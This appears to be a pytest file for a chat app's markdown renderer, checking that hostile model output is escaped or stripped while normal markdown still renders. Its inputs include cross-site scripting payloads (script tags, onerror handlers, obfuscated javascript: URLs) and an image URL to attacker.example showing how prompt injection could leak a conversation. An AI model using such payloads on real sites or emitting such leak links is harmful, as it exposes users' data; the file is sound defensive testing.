"""The renderer (chat/render.py) against hostile model output, and the markdown it must keep.

Raw HTML in a reply is escaped and shown as text; URLs pass an allowlist of schemes. Each test
checks both what is gone and what remains.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from chat.render import LINK_REL, render_markdown, render_plain, sanitize


def hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


def srcs(html: str) -> list[str]:
    return re.findall(r'src="([^"]*)"', html)


def tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Every start tag with its attributes (their order in nh3's output is not fixed)."""
    found: list[tuple[str, dict[str, str | None]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, dict(attrs)))

    Collector().feed(html)
    return found


def test_script_tag_is_shown_as_text_not_run() -> None:
    html = render_markdown("Before <script>alert(1)</script> after")

    assert html == "<p>Before &lt;script&gt;alert(1)&lt;/script&gt; after</p>"


def test_img_with_onerror_is_shown_as_text() -> None:
    html = render_markdown('<img src=x onerror="alert(1)">')

    assert "<img" not in html
    assert html == '<p>&lt;img src=x onerror="alert(1)"&gt;</p>'


def test_inline_svg_with_onload_is_shown_as_text() -> None:
    html = render_markdown('<svg onload="alert(1)"><circle r="4"/></svg>')

    assert "<svg" not in html
    assert "&lt;svg onload=" in html


def test_iframe_srcdoc_is_shown_as_text() -> None:
    html = render_markdown('<iframe srcdoc="<script>alert(1)</script>"></iframe>')

    assert "<iframe" not in html
    assert "<script" not in html
    assert html.startswith("<p>&lt;iframe srcdoc=")


def test_style_and_form_are_shown_as_text() -> None:
    html = render_markdown("<style>body{display:none}</style>\n\n<form action=/x><input></form>")

    assert "<style" not in html
    assert "<form" not in html
    assert "<input" not in html
    assert "&lt;style&gt;body{display:none}&lt;/style&gt;" in html
    assert "&lt;form action=/x&gt;&lt;input&gt;&lt;/form&gt;" in html


def test_html_comment_is_shown_as_text_not_hidden() -> None:
    html = render_markdown("<!-- hidden instructions -->visible")

    assert "<!--" not in html
    assert html == "<p>&lt;!-- hidden instructions --&gt;visible</p>"


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "jav&#x61;script:alert(1)",
        "&#106;avascript:alert(1)",
        "java&#9;script:alert(1)",
        "javascript&colon;alert(1)",
        "<javascript:alert(1)>",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
)
def test_markdown_link_to_a_dangerous_scheme_loses_its_href_and_keeps_its_text(
    url: str,
) -> None:
    html = render_markdown(f"[click me]({url})")

    assert hrefs(html) == []
    assert html == f'<p><a rel="{LINK_REL}">click me</a></p>'


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "jav&#x61;script:alert(1)", "DATA:text/html,<b>x</b>"]
)
def test_reference_style_link_to_a_dangerous_scheme_loses_its_href(url: str) -> None:
    html = render_markdown(f"See [the docs][1].\n\n[1]: {url}")

    assert html == f'<p>See <a rel="{LINK_REL}">the docs</a>.</p>'


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:image/png;base64,iVBORw0KGgo=",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "jav&#x61;script:alert(1)",
    ],
)
def test_markdown_image_with_a_dangerous_scheme_is_a_link_without_its_url(url: str) -> None:
    html = render_markdown(f"![a picture]({url})", frozenset({"example.com"}))

    assert tags(html) == [("p", {}), ("a", {"rel": LINK_REL})]
    assert "a picture" in html and srcs(html) == []


def test_reference_style_image_with_a_data_url_loses_its_url() -> None:
    html = render_markdown("![chart][c]\n\n[c]: data:image/png;base64,iVBORw0KGgo=")

    assert srcs(html) == [] and "data:" not in html
    assert ("a", {"rel": LINK_REL}) in tags(html)


def test_autolink_to_javascript_is_text_not_a_link() -> None:
    html = render_markdown("<jav&#x61;script:alert(1)>")

    assert "<a" not in html
    assert hrefs(html) == []


def test_autolinks_to_web_and_mail_become_links() -> None:
    html = render_markdown("<https://example.com/a?b=1&c=2> and <someone@example.com>")

    assert html == (
        f'<p><a href="https://example.com/a?b=1&amp;c=2" rel="{LINK_REL}">'
        "https://example.com/a?b=1&amp;c=2</a> and "
        f'<a href="mailto:someone@example.com" rel="{LINK_REL}">someone@example.com</a></p>'
    )


def test_web_links_keep_their_href_and_get_a_safe_rel() -> None:
    html = render_markdown('[docs](https://example.com/docs "The docs")')

    assert html == (
        f'<p><a href="https://example.com/docs" title="The docs" rel="{LINK_REL}">docs</a></p>'
    )


def test_mailto_link_is_kept() -> None:
    html = render_markdown("[write](mailto:team@example.com)")

    assert hrefs(html) == ["mailto:team@example.com"]


def test_an_image_from_another_host_is_a_link_that_loads_nothing() -> None:
    # How a prompt injection would leak the conversation: the browser fetching this URL.
    url = "https://attacker.example/p.png?d=the%20conversation"
    html = render_markdown(f"![logo]({url}) and ![]({url})")

    assert srcs(html) == [] and "<img" not in html
    assert tags(html) == [
        ("p", {}),
        ("a", {"href": url, "rel": LINK_REL}),
        ("a", {"href": url, "rel": LINK_REL}),
    ]
    assert ">logo</a>" in html


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/logo.png",  # allowed host, but not over https
        "https://example.com.attacker.net/logo.png",
        "https://notexample.com/logo.png",
        "/static/logo.png",
    ],
)
def test_only_https_images_of_an_allowed_host_load(url: str) -> None:
    html = render_markdown(f"![logo]({url})", frozenset({"example.com", ".cdn.example.org"}))

    assert "<img" not in html


def test_a_subdomain_rule_allows_the_hosts_below_it() -> None:
    html = render_markdown(
        "![a](https://img.cdn.example.org/a.png)", frozenset({".cdn.example.org"})
    )

    assert srcs(html) == ["https://img.cdn.example.org/a.png"]


def test_web_image_of_an_allowed_host_keeps_its_src_and_sends_no_referrer() -> None:
    html = render_markdown("![logo](https://example.com/logo.png)", frozenset({"example.com"}))

    assert tags(html) == [
        ("p", {}),
        (
            "img",
            {
                "alt": "logo",
                "src": "https://example.com/logo.png",
                "referrerpolicy": "no-referrer",
                "loading": "lazy",
            },
        ),
    ]


def test_link_text_with_markup_is_escaped_inside_the_link() -> None:
    html = render_markdown("[<img src=x onerror=alert(1)>](https://example.com)")

    assert "<img" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert hrefs(html) == ["https://example.com"]


def test_quote_in_a_link_url_cannot_add_an_attribute() -> None:
    html = render_markdown('[x](https://example.com"onmouseover="alert(1))')

    assert [attrs for tag, attrs in tags(html) if tag == "a"] == [
        {"href": 'https://example.com"onmouseover="alert(1', "rel": LINK_REL}
    ]


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        ('<svg onload="alert(1)"><circle/></svg>kept', "kept"),
        ('<iframe srcdoc="<b>x</b>"></iframe>kept', "kept"),
        ("<style>p{color:red}</style>kept", "kept"),
        ("<form action=/x><input name=a></form>kept", "kept"),
        ("<!-- a comment -->kept", "kept"),
        ("<script>alert(1)</script>kept", "kept"),
        ('<p onclick="alert(1)" style="x">kept</p>', "<p>kept</p>"),
        ('<a href="JAVASCRIPT:alert(1)">kept</a>', f'<a rel="{LINK_REL}">kept</a>'),
        (
            '<a href="https://example.com" target="_blank" rel="opener">kept</a>',
            f'<a href="https://example.com" rel="{LINK_REL}">kept</a>',
        ),
    ],
)
def test_sanitizer_removes_what_is_not_allowlisted(dirty: str, clean: str) -> None:
    assert sanitize(dirty) == clean


def test_sanitizer_drops_a_data_src_and_event_handlers_from_an_image() -> None:
    html = sanitize('<img src="data:image/png;base64,AA" onerror="alert(1)" alt="x">')

    assert tags(html) == [("img", {"alt": "x", "referrerpolicy": "no-referrer", "loading": "lazy"})]


def test_fenced_code_is_highlighted_by_pygments() -> None:
    html = render_markdown("```python\nprint('<b>hi</b>')\n```")

    assert html == (
        '<div class="codehilite"><pre><span></span><code><span class="nb">print</span>'
        '<span class="p">(</span><span class="s1">\'&lt;b&gt;hi&lt;/b&gt;\'</span>'
        '<span class="p">)</span>\n</code></pre></div>'
    )


def test_fenced_code_without_a_language_is_not_guessed() -> None:
    html = render_markdown("```\nSELECT 1;\n```")

    assert '<div class="codehilite">' in html
    assert "SELECT 1;" in html
    assert '<span class="k">' not in html


def test_table_is_rendered_with_its_column_alignment() -> None:
    html = render_markdown("| name | score |\n|:-----|------:|\n| Ann | 9 |")

    assert "<table>" in html
    assert '<th align="left">name</th>' in html
    assert '<th align="right">score</th>' in html
    assert '<td align="right">9</td>' in html
    assert "style=" not in html


def test_lists_keep_their_kind_and_start_number() -> None:
    html = render_markdown("- one\n- two\n\n3. three\n4. four")

    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>' in html


def test_single_newlines_become_line_breaks() -> None:
    assert render_markdown("line one\nline two") == "<p>line one<br>\nline two</p>"


def test_entities_are_kept_as_text() -> None:
    assert render_markdown("AT&T &lt;b&gt;") == "<p>AT&amp;T &lt;b&gt;</p>"


def test_empty_text_renders_to_nothing() -> None:
    assert render_markdown("") == ""


def test_user_text_is_escaped_not_rendered_as_markdown() -> None:
    assert render_plain("**hi** <b>x</b>") == "**hi** &lt;b&gt;x&lt;/b&gt;"
